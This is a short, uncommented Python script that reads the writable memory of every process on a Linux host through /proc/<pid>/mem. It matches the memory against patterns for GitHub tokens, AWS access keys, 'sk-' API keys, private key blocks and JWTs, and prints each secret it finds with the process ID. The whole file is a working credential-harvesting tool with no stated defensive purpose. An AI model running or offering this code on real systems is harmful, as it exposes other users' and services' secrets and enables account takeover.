import os
import re

RX = re.compile(rb"(ghp_[A-Za-z0-9]{36}|AKIA[A-Z0-9]{16}|sk-[A-Za-z0-9-]{20,}|-----BEGIN [A-Z ]*PRIVATE KEY-----|eyJ[\w-]{20,}\.[\w-]+\.[\w-]+)")


def regions(pid):
    with open(f"/proc/{pid}/maps") as m:
        for line in m:
            rng, perms = line.split()[:2]
            if perms.startswith("rw"):
                a, b = (int(x, 16) for x in rng.split("-"))
                yield a, b - a


def scan(pid):
    hits = set()
    with open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for start, size in regions(pid):
            try:
                mem.seek(start)
                hits.update(RX.findall(mem.read(min(size, 64 << 20))))
            except (OSError, ValueError, OverflowError):
                continue
    return hits


for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        for h in scan(pid):
            print(pid, h.decode("latin1"))
    except OSError:
        pass
